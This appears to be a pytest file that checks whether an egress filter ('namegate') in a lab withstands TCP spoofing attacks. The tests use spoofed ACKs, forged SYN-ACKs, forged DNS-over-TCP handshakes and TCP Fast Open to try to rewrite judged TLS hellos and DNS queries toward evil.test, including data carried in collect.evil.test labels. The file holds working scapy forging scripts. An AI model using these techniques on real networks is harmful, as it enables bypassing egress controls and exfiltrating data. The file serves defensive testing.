"""An accomplice on the internet answering for the server (SPEC s4 steps 5 and 7, s8: only
what the receiver will accept is judged, and judged bytes go only once the server has
them). The VM writes its own frames and chose its ISNs and ports with the accomplice in
advance, who can send anything from any source address toward the VM but cannot see the
path; the VM can make its own frames die before the server (TTL 1). Each test spoofs from
the internet namespace with scapy and asserts on what the servers read, the bindings
namegate learned, or a capture; each pairs its attack with a control that the forgery
itself works (the same frame with what only the path knows), so a test cannot pass by
everything being broken. The VM's helpers are test_conntrue's.
"""
import contextlib
import secrets

import pytest

import lab as labmod
import lab_services as svc
import ng_counters as nc
from lab_net import wait_until
from test_conntrue import (VM1, bindings, fastopen, hello_with, inet_capture, queried,
                           resolve, snis, unique, vm_scapy)
from test_conntrue import ng  # noqa: F401 (a fixture)


def pypi_with_ports(lab, family, ports4, ports6):
    """pypi.org's address for vm1 in family (4 or 6), vm1's own address there, and the
    test's two source ports for that family (ports4 or ports6)."""
    if family == 4:
        return (resolve(lab, "pypi.org"), VM1) + tuple(ports4)
    aaaa = lab.dig("vm1", "pypi.org", "AAAA").addresses
    assert aaaa, "pypi.org has no AAAA for vm1"
    return (aaaa[0], lab.vm("vm1").ipv6) + tuple(ports6)


# ---------------------------------------------------------------- spoofed ACKs

_SPOOF = r"""
import sys
from scapy.all import Ether, IP, IPv6, TCP, conf, sendp
conf.verb = 0
router_mac, vm_mac, server, vm, sport, seq, ack = sys.argv[1:]
ip = IPv6(src=server, dst=vm) if ":" in server else IP(src=server, dst=vm)
sendp(Ether(src=router_mac, dst=vm_mac) / ip /
      TCP(sport=443, dport=int(sport), flags="A", seq=int(seq), ack=int(ack)), iface="eth0")
"""


def spoofed_ack_then_rewrite(lab, argv, dst, sport, dport, judged, rewrite, off_stream,
                             prelude=""):
    """In vm1, to dst:dport (dst, judged and rewrite are scapy code, prelude too): the judged
    bytes sent with an ACK for data the server never sent, so it drops them; their ACK
    spoofed from the internet (argv: the spoofer's command line but the VM's port and the
    numbers) at a sequence number off the server's stream or (not off_stream) at its own
    next one; then the rewrite at the judged bytes' sequence number. What the VM saw: the
    spoofed ACK sent on to it (spoof_seen), and an RST (reset)."""
    return vm_scapy(lab, labmod._dedent(prelude) + labmod._dedent(f"""
        import subprocess
        ip, seq, ack = handshake({dst}, {sport}, dport={dport})
        s = listen({dst}, {sport}, dport={dport})
        judged, rewrite = {judged}, {rewrite}
        send(seg(ip, {sport}, seq, ack + 100000, judged, dport={dport}))  # the server drops it
        spoof_seq = ack + 777777 if {off_stream} else ack
        subprocess.run(['ip', 'netns', 'exec'] + {argv!r} +
                       [str({sport}), str(spoof_seq), str(seq + len(judged))], check=True)
        # namegate sends the spoofed ACK on to the VM once it has taken it in
        got = sniff(opened_socket=s, timeout=20, count=1,
                    lfilter=lambda p: p.haslayer(TCP) and p[TCP].seq == spoof_seq)
        send(seg(ip, {sport}, seq, ack, rewrite, dport={dport}))
        result(spoof_seen=len(got) == 1, reset=reset_seen(s, timeout=5))
    """))


@pytest.mark.parametrize("family", [4, 6])
def test_spoofed_server_ack_does_not_let_a_judged_hello_be_rewritten(ng, family):
    """Attack 3b: an accomplice on the internet spoofs the server's ACK of a judged hello
    the server discarded, then the VM rewrites it to say evil.test."""
    # The VM picks its own ISN, so an accomplice can know the ACK number that covers the
    # hello; only the path knows the server's sequence number. Only an ACK in the server's
    # stream as namegate saw it lets judged bytes go, so the rewrite is still cut. Control:
    # the same spoof at the server's own next sequence number (the VM read it from the
    # SYN-ACK; an accomplice off the path cannot) is taken, and the rewrite then reaches
    # the server: the spoof works, and the sequence number is what stopped the first.
    vm = ng.vm("vm1")
    addr, client, attack, control = pypi_with_ports(ng, family, (20032, 20033), (20034, 20035))
    argv = [ng.inet_ns, labmod.PYTHON, "-c", _SPOOF, ng.router_mac, vm.mac, addr, client]
    out = {}

    def read(port):
        return [e["sni"] for e in ng.server_events(event="sni", client=client,
                                                   client_port=port)
                if e["sni"] == "evil.test"]

    with inet_capture(ng) as cap:
        for sport, off_stream in ((attack, True), (control, False)):
            out[sport] = spoofed_ack_then_rewrite(
                ng, argv, repr(addr), sport, 443, "client_hello('pypi.org')",
                "client_hello('evil.test')", off_stream)
        cap.sync()
    assert out[attack]["spoof_seen"] and out[control]["spoof_seen"], out
    # control: an ACK in the server's stream lets the bytes go, so the rewrite got through
    assert wait_until(lambda: read(control)) == ["evil.test"], \
        f"control: the in-stream spoofed ACK did not let the hello go: {out}"
    assert not read(attack), "the server read the rewritten SNI evil.test after a spoofed ACK"
    assert out[attack]["reset"], f"the rewrite after a spoofed ACK was not cut: {out}"


def test_spoofed_resolver_ack_does_not_let_a_judged_query_be_rewritten(ng):
    """Attack 3c: the same over DNS over TCP: an accomplice spoofs the resolver's ACK of an
    allowed query the resolver discarded; the VM then rewrites it to ask a denied name."""
    # The rewrite would carry data out in the denied name's labels. Only an ACK in the
    # resolver's stream as namegate saw it lets the judged query go. Control: the same
    # spoof at the resolver's own next sequence number is taken, and the rewrite reaches
    # the resolver, so the spoof works and the sequence number is what stopped it. Both
    # acknowledge the query in the numbers the resolver sees (namegate modulates them:
    # test_forged_resolver_handshake_does_not_teach_a_binding), as if the accomplice
    # knew them, so that the sequence number alone is what the two differ in.
    vm = ng.vm("vm1")
    spoof = _SPOOF.replace("sport=443", "sport=53")
    argv = [ng.inet_ns, labmod.PYTHON, "-c", spoof, ng.router_mac, vm.mac, svc.RESOLVER, VM1]
    wire = ["ip", "netns", "exec", ng.inet_ns, labmod.PYTHON, "-c", _WIRE_SYN]
    denied, out = {}, {}
    with inet_capture(ng) as cap:
        for sport, off_stream in ((20036, True), (20037, False)):
            # the same length as the allowed name, so the rewrite covers it exactly
            denied[sport] = f"{secrets.token_hex(8)}.collect.evil.test"
            allowed = unique("githubusercontent.com")
            out[sport] = vm_scapy(ng, f"""
                import subprocess
                def msg(name, qid):
                    q = bytes(DNS(id=qid, rd=1, qd=DNSQR(qname=name)))
                    return struct.pack('>H', len(q)) + q
                w = subprocess.Popen({wire!r} + [str({sport})], stdout=subprocess.PIPE,
                                     text=True)
                assert w.stdout.readline().strip() == 'ready'
                ip, seq, ack = handshake(RESOLVER, {sport}, dport=53)
                delta = int(w.stdout.readline()) + 1 - seq   # the SYN on the wire
                w.wait()
                s = listen(RESOLVER, {sport}, dport=53)
                a, d = msg({allowed!r}, 0x1111), msg({denied[sport]!r}, 0x2222)
                assert len(a) == len(d), (len(a), len(d))
                send(seg(ip, {sport}, seq, ack + 100000, a, dport=53))  # the resolver drops it
                spoof_seq = ack + 777777 if {off_stream} else ack
                subprocess.run(['ip', 'netns', 'exec'] + {argv!r} +
                               [str({sport}), str(spoof_seq),
                                str((seq + len(a) + delta) & 0xffffffff)], check=True)
                got = sniff(opened_socket=s, timeout=20, count=1,
                            lfilter=lambda p: p.haslayer(TCP) and p[TCP].seq == spoof_seq)
                send(seg(ip, {sport}, seq, ack, d, dport=53))
                result(spoof_seen=len(got) == 1)
            """)
        cap.sync()
    assert out[20036]["spoof_seen"] and out[20037]["spoof_seen"], out
    assert wait_until(lambda: queried(ng, denied[20037])), \
        f"control: the in-stream spoofed ACK did not let the query go: {out}"
    assert not queried(ng, denied[20036]), \
        "the resolver read the rewritten denied query after a spoofed ACK"
    assert not cap.frames_with(denied[20036].split(".")[0].encode()), \
        "the rewritten denied query reached the internet"


@contextlib.contextmanager
def first_router_drops_ttl1(lab):
    """The first router on the internet side drops what the VM sent with IP TTL 1, as a
    real one would (its TTL expires there; the lab's servers sit on the router itself,
    which would take it): how a VM makes its own SYN die before the server."""
    table = f"ngttl{secrets.token_hex(3)}"
    lab.inet_exec(f"nft add table inet {table} && nft add chain inet {table} pre "
                  f"'{{ type filter hook prerouting priority -300; }}' && "
                  f"nft add rule inet {table} pre ip saddr {VM1} ip ttl 1 drop && "
                  f"nft add rule inet {table} pre ip6 saddr {lab.vm('vm1').ipv6} "
                  f"ip6 hoplimit 1 drop", check=True)
    try:
        yield
    finally:
        lab.inet_exec(f"nft delete table inet {table}")


_FORGE_SYNACK = _SPOOF.replace('flags="A"', 'flags="SA"')


@pytest.mark.parametrize("family", [4, 6])
def test_forged_synack_does_not_let_a_judged_hello_be_rewritten(ng, family):
    """Attack 3d: the VM's SYN dies on the way (TTL 1) and an accomplice forges the
    server's SYN-ACK with an ISN of its own, so that the stream namegate follows in order
    is the accomplice's; it then acknowledges, in that stream, a judged hello the server
    discarded (3b), and the VM rewrites the hello to say evil.test."""
    # The real SYN-ACK must cross namegate before the VM can send the server a byte (the
    # VM needs its sequence number): a second SYN-ACK with another ISN cuts the connection.
    # Control: the same server's SYN-ACK sent again (the SYN repeated) is its
    # retransmission, with the same ISN, and the connection goes on: the server reads the
    # allowed hello.
    vm = ng.vm("vm1")
    addr, client, attack, control = pypi_with_ports(ng, family, (20038, 20039), (20046, 20047))
    forged_isn = 3_000_000_000
    inet = ["ip", "netns", "exec", ng.inet_ns, labmod.PYTHON, "-c"]
    forge = inet + [_FORGE_SYNACK, ng.router_mac, vm.mac, addr, client]
    spoof = inet + [_SPOOF, ng.router_mac, vm.mac, addr, client]

    def read(port, sni=None):
        return [e["sni"] for e in ng.server_events(event="sni", client=client,
                                                   client_port=port)
                if sni is None or e["sni"] == sni]

    with nc.Delta(ng) as d, first_router_drops_ttl1(ng), inet_capture(ng) as cap:
        out = vm_scapy(ng, f"""
            import subprocess
            isn, v6 = 1000, ':' in {addr!r}
            ip = IPv6(dst={addr!r}) if v6 else IP(dst={addr!r})
            def syn(sport, ttl=64):
                l3 = IPv6(dst={addr!r}, hlim=ttl) if v6 else IP(dst={addr!r}, ttl=ttl)
                return l3/TCP(sport=sport, dport=443, flags='S', seq=isn,
                              options=[('MSS', 1440 if v6 else 1460)])
            def seen(s, seq):
                return len(sniff(opened_socket=s, timeout=20, count=1,
                                 lfilter=lambda p: p.haslayer(TCP) and p[TCP].seq == seq)) == 1
            s = listen({addr!r}, {attack})
            send(syn({attack}, ttl=1))                      # dies at the first router
            subprocess.run({forge!r} + [str({attack}), str({forged_isn}), str(isn + 1)],
                           check=True)
            forged_seen = seen(s, {forged_isn})
            sa = sr1(syn({attack}), timeout=5)              # the real server answers now
            real = sa is not None and sa.haslayer(TCP) and sa[TCP].flags & 0x12 == 0x12
            evil_sent = False
            if real:                                        # namegate let it through
                seq, ack = isn + 1, sa[TCP].seq + 1
                send(ip/TCP(sport={attack}, dport=443, flags='A', seq=seq, ack=ack))
                h = client_hello('pypi.org')
                send(seg(ip, {attack}, seq, ack + 100000, h))   # the server drops it
                subprocess.run({spoof!r} + [str({attack}), str({forged_isn} + 1),
                                             str(seq + len(h))], check=True)
                seen(s, {forged_isn} + 1)
                send(seg(ip, {attack}, seq, ack, client_hello('evil.test')))
                evil_sent = True
            # control: a SYN-ACK again with the same ISN is no dispute
            s2 = listen({addr!r}, {control})
            first = sr1(syn({control}), timeout=20)
            again = sr1(syn({control}), timeout=20)
            same = (first is not None and again is not None and
                    first.haslayer(TCP) and again.haslayer(TCP) and
                    first[TCP].flags & 0x12 == 0x12 and again[TCP].seq == first[TCP].seq)
            if same:
                seq, ack = isn + 1, first[TCP].seq + 1
                send(ip/TCP(sport={control}, dport=443, flags='A', seq=seq, ack=ack))
                send(seg(ip, {control}, seq, ack, client_hello('pypi.org')))
            result(forged_seen=forged_seen, real_synack=real, evil_sent=evil_sent,
                   control_same_isn=same)
        """)
        cap.sync()
    assert out["forged_seen"], f"the forged SYN-ACK did not reach the VM: {out}"
    assert out["control_same_isn"], f"control: no second SYN-ACK with the same ISN: {out}"
    assert wait_until(lambda: read(control)) == ["pypi.org"], \
        f"control: the connection did not go on after a retransmitted SYN-ACK: {out}"
    assert not read(attack, "evil.test"), \
        f"the server read the rewritten SNI evil.test after a forged SYN-ACK: {out}"
    assert not hello_with(cap, "evil.test"), "the rewritten hello reached the internet"
    assert not out["real_synack"], f"the disputed SYN-ACK reached the VM: {out}"
    d.wait({nc.blocked("vm1", "rewrite"): 1})   # the cut, counted


# The accomplice's side of a forged DNS-over-TCP handshake, in the internet namespace:
# "synack" answers the VM's SYN (which dies before the resolver) with ack; "answer" sends
# the answer to the query, an A record for addr, in its own stream from seq.
_FORGE = r"""
import struct, sys
from scapy.all import DNS, DNSQR, DNSRR, Ether, IP, TCP, conf, sendp
conf.verb = 0
what, router_mac, vm_mac, resolver, vm, sport, seq, ack = sys.argv[1:9]
tcp = dict(sport=53, dport=int(sport), seq=int(seq) & 0xffffffff, ack=int(ack) & 0xffffffff)
if what == "synack":
    seg = TCP(flags="SA", options=[("MSS", 1460)], **tcp)
else:
    name, qid, addr = sys.argv[9:12]
    a = bytes(DNS(id=int(qid), qr=1, rd=1, ra=1, qd=DNSQR(qname=name),
                  an=DNSRR(rrname=name, type="A", ttl=300, rdata=addr)))
    seg = TCP(flags="PA", **tcp) / (struct.pack(">H", len(a)) + a)
sendp(Ether(src=router_mac, dst=vm_mac) / IP(src=resolver, dst=vm) / seg, iface="eth0")
"""

# The sequence number of the VM's SYN from sport as it crossed the wire to the resolver:
# what only the path sees (the control's accomplice is given it).
_WIRE_SYN = r"""
import sys
from scapy.all import TCP, conf, sniff
conf.verb = 0
sport = int(sys.argv[1])
def ready():
    print("ready", flush=True)
got = sniff(iface="eth0", count=1, timeout=30, started_callback=ready,
            filter=f"tcp and dst port 53 and src port {sport} and tcp[tcpflags] & tcp-syn != 0")
print(got[0][TCP].seq if got else "none", flush=True)
"""


@pytest.mark.parametrize("widened", [False, True], ids=["syn", "widened"])
def test_forged_resolver_handshake_does_not_teach_a_binding(ng, widened):
    """Attack 3e: the VM's SYN to the resolver dies on the way (TTL 1); an accomplice that
    knows its ISN forges the resolver's SYN-ACK, and then an answer to the VM's query in
    its own stream: an allowed name A 192.0.2.66, an address of its own. widened: the
    VM first claims to have sent 2^31 bytes (a bare segment that far ahead), so that half
    of all ACK numbers would acknowledge something it sent, and the accomplice forges four
    SYN-ACKs 2^30 apart: one of them lands there, whatever namegate's offset."""
    # namegate modulates a DNS-over-TCP flow's sequence numbers (a random offset from the
    # SYN on), so a SYN-ACK must acknowledge the SYN as it crossed the wire, which an
    # accomplice off the path cannot know; and it must acknowledge the SYN (and its data)
    # exactly. The forged one is not taken, the answer is unsolicited, no binding is learned
    # and the forged address stays closed. Control: the same forgery by an accomplice given
    # the SYN's number on the wire (as the path sees it) teaches its address, so the
    # forgery works and the number is what stopped it.
    vm = ng.vm("vm1")
    base = [ng.router_mac, vm.mac, svc.RESOLVER, VM1]
    forge = ["ip", "netns", "exec", ng.inet_ns, labmod.PYTHON, "-c", _FORGE]
    wire = ["ip", "netns", "exec", ng.inet_ns, labmod.PYTHON, "-c", _WIRE_SYN]
    attack, control = (20043, 20044) if widened else (20038, 20039)
    # outside every address pattern (vm1's policy opens 198.51.100.0/24:443)
    forged = {attack: f"192.0.2.{68 if widened else 66}",
              control: f"192.0.2.{69 if widened else 67}"}
    names = {sport: unique("githubusercontent.com") for sport in forged}
    out = {}
    with first_router_drops_ttl1(ng), inet_capture(ng) as cap:
        for sport, on_path in ((attack, False), (control, True)):
            out[sport] = vm_scapy(ng, f"""
                import subprocess
                sport, isn, rseq = {sport}, 31337000, 5000000
                ip = IP(dst=RESOLVER, ttl=1)
                s = listen(RESOLVER, sport, dport=53)
                w = subprocess.Popen({wire!r} + [str(sport)], stdout=subprocess.PIPE, text=True)
                assert w.stdout.readline().strip() == 'ready'
                send(ip/TCP(sport=sport, dport=53, flags='S', seq=isn, options=[('MSS', 1460)]))
                on_wire = w.stdout.readline().strip()
                w.wait()
                if {widened}:
                    send(ip/TCP(sport=sport, dport=53, flags='A', seq=isn + 2**31 - 1,
                                ack=rseq + 1))
                # the accomplice knows the VM's ISN; the control's is given the wire's
                if {on_path}:
                    acks = [int(on_wire) + 1]
                else:
                    acks = [isn + 1 + k * 2**30 for k in range(4 if {widened} else 1)]
                for ack in acks:
                    subprocess.run({forge!r} + ['synack'] + {base!r} +
                                   [str(sport), str(rseq), str(ack)], check=True)
                synack = sniff(opened_socket=s, timeout=5, count=1,
                               lfilter=lambda p: p.haslayer(TCP) and p[TCP].flags.S)
                q = bytes(DNS(id=0x3d3d, rd=1, qd=DNSQR(qname={names[sport]!r})))
                q = struct.pack('>H', len(q)) + q
                send(ip/TCP(sport=sport, dport=53, flags='A', seq=isn + 1, ack=rseq + 1))
                send(ip/TCP(sport=sport, dport=53, flags='PA', seq=isn + 1, ack=rseq + 1)/q)
                time.sleep(0.5)
                subprocess.run({forge!r} + ['answer'] + {base!r} +
                               [str(sport), str(rseq + 1), str(acks[0] + len(q)),
                                {names[sport]!r}, str(0x3d3d), {forged[sport]!r}], check=True)
                sync()
                # then a connection to the forged address
                send(IP(dst={forged[sport]!r})/TCP(sport=sport, dport=443, flags='S', seq=777))
                sync()
                result(wire=on_wire, synack_seen=len(synack) == 1)
            """)
        cap.sync()
    # control: with the SYN's number on the wire the forgery works
    wait_until(lambda: forged[control] in (bindings(ng, "vm1") or "").split(),
               what="control: a SYN-ACK for the SYN as the wire saw it to teach a binding")
    listed = bindings(ng, "vm1") or ""
    opened = {sport: [p for p in cap.packets(src=VM1, dst=addr, proto=6) if p["dport"] == 443]
              for sport, addr in forged.items()}
    assert out[attack]["wire"] != "none" and out[control]["wire"] != "none", out
    assert opened[control], "control: the connection to the bound forged address was refused"
    assert forged[attack] not in listed.split(), \
        f"namegate learned the forged binding {names[attack]} {forged[attack]}:\n{listed}"
    assert not opened[attack], f"the VM reached the forged address {forged[attack]}"
    assert not out[attack]["synack_seen"], f"a forged SYN-ACK reached the VM: {out}"


# ---------------------------------------------------------------- Fast Open

def test_syn_data_sent_again_after_a_forged_synack_is_not_read_unjudged(ng):
    """Attack 4c: Fast Open after a forged SYN-ACK. The VM's SYN carrying an allowed hello
    dies on the way (TTL 1); an accomplice forges the server's SYN-ACK, then its ACK of the
    hello in that forged stream, which lets the judged hello go; the VM sends its SYN
    again, with a hello for evil.test as its data, which a Fast Open server reads at once."""
    # A SYN sent again after a SYN-ACK goes on without its data. Control: the same Fast
    # Open SYN with the allowed hello, from another port, is read by the server at once,
    # so the SYN's data would have been read.
    addr = resolve(ng, "pypi.org")
    vm = ng.vm("vm1")
    attack, control, probe, forged_isn = 20043, 20044, 20045, 3_100_000_000
    inet = ["ip", "netns", "exec", ng.inet_ns, labmod.PYTHON, "-c"]
    forge = inet + [_FORGE_SYNACK, ng.router_mac, vm.mac, addr, VM1]
    spoof = inet + [_SPOOF, ng.router_mac, vm.mac, addr, VM1]
    with fastopen(ng), first_router_drops_ttl1(ng), inet_capture(ng) as cap:
        out = vm_scapy(ng, f"""
            import subprocess
            ip, isn = IP(dst={addr!r}), 7000
            sa = sr1(ip/TCP(sport={probe}, dport=443, flags='S', seq=1000,
                            options=[('MSS', 1460), ('TFO', b'')]), timeout=20)
            cookie = [v for k, v in (sa[TCP].options if sa else []) if k == 'TFO']
            if not cookie:
                raise SystemExit(f'the server gave no Fast Open cookie: {{sa!r}}')
            send(ip/TCP(sport={probe}, dport=443, flags='R', seq=1001))
            def syn(sport, data, ttl=64):
                return IP(dst={addr!r}, ttl=ttl)/TCP(
                    sport=sport, dport=443, flags='S', seq=isn,
                    options=[('MSS', 1460), ('TFO', cookie[0])])/data
            def seen(s, seq):
                return len(sniff(opened_socket=s, timeout=20, count=1,
                                 lfilter=lambda p: p.haslayer(TCP) and p[TCP].seq == seq)) == 1
            s = listen({addr!r}, {attack})
            h = client_hello('pypi.org')
            send(syn({attack}, h, ttl=1))                  # judged; dies at the first router
            end = isn + 1 + len(h)
            subprocess.run({forge!r} + [str({attack}), str({forged_isn}), str(end)], check=True)
            forged_seen = seen(s, {forged_isn})
            subprocess.run({spoof!r} + [str({attack}), str({forged_isn} + 1), str(end)],
                           check=True)
            ack_seen = seen(s, {forged_isn} + 1)
            send(syn({attack}, client_hello('evil.test')))
            send(syn({control}, h))
            result(forged_seen=forged_seen, ack_seen=ack_seen)
        """)
        cap.sync()
    assert out["forged_seen"] and out["ack_seen"], f"the forgeries did not reach the VM: {out}"
    assert wait_until(lambda: snis(ng, control)) == ["pypi.org"], \
        f"control: the server did not read a Fast Open SYN's hello: {out}"
    # the server's stack takes a Fast Open SYN's data at once: whether its application
    # read it before the cut is a race, so what crossed the wire is the proof
    assert not hello_with(cap, "evil.test"), \
        "a SYN sent again after a forged SYN-ACK carried evil.test's hello to the server"
    assert not snis(ng, attack, "evil.test"), \
        "the server read evil.test from a SYN's data sent again after a forged SYN-ACK"
